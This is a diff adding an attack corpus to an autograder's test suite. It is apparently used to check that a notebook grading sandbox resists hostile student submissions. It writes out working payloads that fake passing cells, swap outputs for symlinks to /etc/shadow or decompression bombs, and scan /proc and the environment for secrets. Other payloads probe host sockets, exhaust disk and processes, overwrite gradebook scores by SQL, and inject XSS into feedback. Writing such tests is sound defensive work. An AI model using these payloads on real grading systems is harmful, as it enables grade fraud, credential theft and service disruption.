@@ -56,3 +56,143 @@ EXPECTED: dict[str, Expect] = {
     "not_a_notebook": Expect(0, "not a Jupyter notebook"),
     "no_cells": Expect(0, "was missing and was put back"),
 }
+
+
+# --- the attack corpus (issue 10): every category, at least three techniques each -------------
+# Each attack starts from the task file's WRONG answer (zeros of the right shapes) so that any
+# point above the plain wrong control ("control_wrong") would be a gain. Markers: SECRET is
+# planted where the grader can read it (a file, the coordinator's environment) and must never
+# show up in anything a student produced; XSS is the marker of active content in feedback.
+SECRET = "bpc-planted-secret-7f3a"
+XSS = "bpcxss"
+SHM_KEY = 0x0B0C5A11
+HOST_SOCKET = "/tmp/bpc-host-service.sock"
+
+_LEAK = ("def _leak(tag, text):\n    print('FOUND', tag, str(text)[:300])\n"
+         f"_SECRET = '{SECRET[:8]}' + '{SECRET[8:]}'\n")
+
+ATTACKS: dict[str, tuple[str, str]] = {
+    # 1. kernel-decided cells: hide failures from nbgrader's rule (the execute reply says error)
+    "k_showtraceback": ("kernel", "get_ipython().showtraceback = lambda *a, **k: None\n"),
+    "k_custom_exc": ("kernel", "get_ipython().set_custom_exc((Exception,), "
+                                "lambda self, et, ev, tb, tb_offset=None: None)\n"),
+    "k_run_cell": ("kernel", "ip = get_ipython()\n_orig = ip.run_cell\n"
+                             "def _fake(raw_cell, *a, **k):\n    return _orig('pass', *a, **k)\n"
+                             "ip.run_cell = _fake\n"),
+    # 4. transport: outputs of the isolated runner replaced behind the runner's back
+    "t_fifo": ("transport", "import os, threading, time\n"
+               "def _swap():\n    while not os.path.exists('.job/out/done.json'):\n"
+               "        time.sleep(0.005)\n    for n in os.listdir('.job/out'):\n"
+               "        p = '.job/out/' + n\n        os.unlink(p)\n        os.mkfifo(p)\n"
+               "if os.path.isdir('.job'):\n    threading.Thread(target=_swap).start()\n"),
+    "t_symlink": ("transport", "import os, threading, time\n"
+                  f"TARGETS = ['/etc/shadow', '{'{'}SECRET_FILE{'}'}']\n"
+                  "def _swap():\n    while not os.path.exists('.job/out/done.json'):\n"
+                  "        time.sleep(0.005)\n    for i, n in enumerate(sorted(os.listdir("
+                  "'.job/out'))):\n        p = '.job/out/' + n\n        os.unlink(p)\n"
+                  "        os.symlink(TARGETS[i % 2], p)\n"
+                  "if os.path.isdir('.job'):\n    threading.Thread(target=_swap).start()\n"),
+    "t_npz_bomb": ("transport", "import os, threading, time, zipfile, json\n"
+                   "def _swap():\n    while not os.path.exists('.job/out/done.json'):\n"
+                   "        time.sleep(0.005)\n    for n in os.listdir('.job/out'):\n"
+                   "        if n.endswith('.npz'):\n"
+                   "            with zipfile.ZipFile('.job/out/' + n, 'w', "
+                   "zipfile.ZIP_DEFLATED) as z:\n"
+                   "                hdr = \"{'descr': '<f8', 'fortran_order': False, "
+                   "'shape': (67108864,), }\"\n"
+                   "                z.writestr('a0.npy', b'\\x93NUMPY\\x01\\x00' + "
+                   "bytes([118, 0]) + hdr.ljust(117).encode() + b'\\n' + bytes(1 << 28))\n"
+                   "        elif n.endswith('.json') and n != 'done.json':\n"
+                   "            open('.job/out/' + n, 'w').write('[' * 200000)\n"
+                   "if os.path.isdir('.job'):\n    threading.Thread(target=_swap).start()\n"),
+    "t_display_update": ("transport", "from IPython.display import display\n"
+                         "h = display('small', display_id=True)\n"
+                         "h.update('y' * (30 * 1024**2))\n"),
+    # 5. the sandbox boundary
+    "s_host_socket": ("sandbox", _LEAK + "import socket\n"
+                      "for addr in ['" + HOST_SOCKET + "', '\\0bpc-host-abstract']:\n"
+                      "    try:\n        s = socket.socket(socket.AF_UNIX)\n"
+                      "        s.connect(addr)\n        s.sendall(b'hello')\n"
+                      "        _leak('socket', s.recv(100))\n    except OSError as e:\n"
+                      "        print('blocked', type(e).__name__)\n"
+                      "for host in [('127.0.0.1', {PORT}), ('10.1.2.3', 53)]:\n"
+                      "    try:\n        socket.create_connection(host, timeout=1)\n"
+                      "        _leak('tcp', host)\n    except OSError as e:\n"
+                      "        print('blocked', type(e).__name__)\n"
+                      "try:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
+                      "b'x', ('10.1.2.3', 53))\n    _leak('udp', 'sent')\n"
+                      "except OSError as e:\n    print('blocked', type(e).__name__)\n"),
+    "s_sysv_plant": ("sandbox", "import ctypes\nlibc = ctypes.CDLL(None)\n"
+                     "libc.shmat.restype = ctypes.c_void_p\n"
+                     f"i = libc.shmget({SHM_KEY}, 4096, 0o1666)\n"
+                     "if i >= 0:\n    p = libc.shmat(i, None, 0)\n"
+                     "    ctypes.memmove(p, b'planted-by-another-student', 26)\n"
+                     f"sem = libc.semget({SHM_KEY + 1}, 1, 0o1666)\nprint('planted', i, sem)\n"),
+    "s_sysv_read": ("sandbox", _LEAK + "import ctypes, time\nlibc = ctypes.CDLL(None)\n"
+                    "libc.shmat.restype = ctypes.c_void_p\nfor _ in range(20):\n"
+                    f"    i = libc.shmget({SHM_KEY}, 0, 0)\n    if i >= 0:\n"
+                    "        _leak('shm', ctypes.string_at(libc.shmat(i, None, 0), 26))\n"
+                    "        break\n    time.sleep(0.1)\nprint('shm', i)\n"),
+    "s_proc": ("sandbox", _LEAK + "import os\nfor pid in os.listdir('/proc'):\n"
+               "    if pid.isdigit():\n        for what in ('cmdline', 'environ'):\n"
+               "            try:\n                t = open(f'/proc/{pid}/{what}', 'rb').read()\n"
+               "            except OSError:\n                continue\n"
+               "            if b'ipykernel' in t and pid not in ('1', str(os.getpid())):\n"
+               "                _leak('kernel', t)\n"
+               "            if _SECRET.encode() in t or b'sqlite' in t or b'postgres' in t:\n"
+               "                _leak('proc', t)\n"
+               "print('pids', [p for p in os.listdir('/proc') if p.isdigit()])\n"),
+    "s_disk_fill": ("sandbox", "import os\nos.makedirs('fill', exist_ok=True)\n"
+                    "try:\n    for i in range(60):\n"
+                    "        with open(f'fill/{i}', 'wb') as f:\n"
+                    "            f.write(bytes(10 * 1024**2))\n"
+                    "except OSError as e:\n    print('stopped', type(e).__name__)\n"),
+    "s_leftovers": ("sandbox", "import os, subprocess\nn = 0\ntry:\n    for _ in range(200):\n"
+                    "        subprocess.Popen(['sleep', '600'], start_new_session=True)\n"
+                    "        n += 1\nexcept OSError as e:\n    print('limit', n, e)\n"
+                    "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+                    "        import time\n        time.sleep(600)\n    os._exit(0)\n"),
+    # 6. the gradebook and its credentials
+    "g_sqlite": ("gradebook", _LEAK + "import glob, sqlite3\n"
+                 "for p in glob.glob('/**/gradebook.db', recursive=True)[:5] + "
+                 "['{GRADEBOOK}']:\n    try:\n"
+                 "        c = sqlite3.connect(p)\n"
+                 "        c.execute('update grade set manual_score=99, extra_credit=9')\n"
+                 "        c.commit()\n        _leak('db', p)\n    except Exception as e:\n"
+                 "        print('blocked', type(e).__name__)\n"),
+    "g_postgres_socket": ("gradebook", _LEAK + "import socket, glob\n"
+                          "for p in glob.glob('/var/run/postgresql/.s.PGSQL.*') + "
+                          "glob.glob('/run/postgresql/.s.PGSQL.*') + "
+                          "['/var/run/postgresql/.s.PGSQL.5432']:\n    try:\n"
+                          "        s = socket.socket(socket.AF_UNIX)\n        s.connect(p)\n"
+                          "        _leak('pg', p)\n    except OSError as e:\n"
+                          "        print('blocked', type(e).__name__)\n"),
+    "g_credentials": ("gradebook", _LEAK + "import os\n"
+                      "for k, v in os.environ.items():\n"
+                      "    if _SECRET in v or 'sqlite' in v or 'postgres' in v:\n"
+                      "        _leak('env', k)\n"
+                      "for p in ['{SECRET_FILE}', '/proc/1/environ', '/proc/1/cmdline']:\n"
+                      "    try:\n        t = open(p, 'rb').read()\n"
+                      "        if _SECRET.encode() in t:\n            _leak('file', p)\n"
+                      "    except OSError as e:\n        print('blocked', type(e).__name__)\n"),
+    # 8. active content in feedback
+    "f_html_output": ("feedback", "from IPython.display import HTML, Javascript, SVG, display\n"
+                      f"display(HTML('<script>{XSS}1()</script><img src=x onerror={XSS}2()>'))\n"
+                      f"display(Javascript('{XSS}3()'))\n"
+                      f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" "
+                      f"onload=\"{XSS}4()\"></svg>'))\n"),
+}
+"""Attack kind -> (category, code inserted before the first test cell of a WRONG answer).
+Placeholders: {SECRET_FILE}, {GRADEBOOK}, {PORT} (filled by the test)."""
+
+MARKDOWN_ATTACKS: dict[str, str] = {
+    "f_markdown_script": f"<script>{XSS}5()</script> <img src=x onerror=\"{XSS}6()\">",
+    "f_markdown_links": f"[click](javascript:{XSS}7()) <a href=\"javascript:{XSS}8()\">x</a> "
+                        f"<iframe src=\"javascript:{XSS}9()\"></iframe>",
+    "f_markdown_style": f"<style>body {{background: url(javascript:{XSS}10())}}</style>"
+                        f"<form action=\"javascript:{XSS}11()\"><input></form>"
+                        f"<div onclick=\"{XSS}12()\">x</div>",
+}
+"""Attack kind -> a markdown cell appended to a WRONG answer (feedback category)."""
+
+ATTACK_CATEGORIES = sorted({c for c, _ in ATTACKS.values()} | {"feedback"})
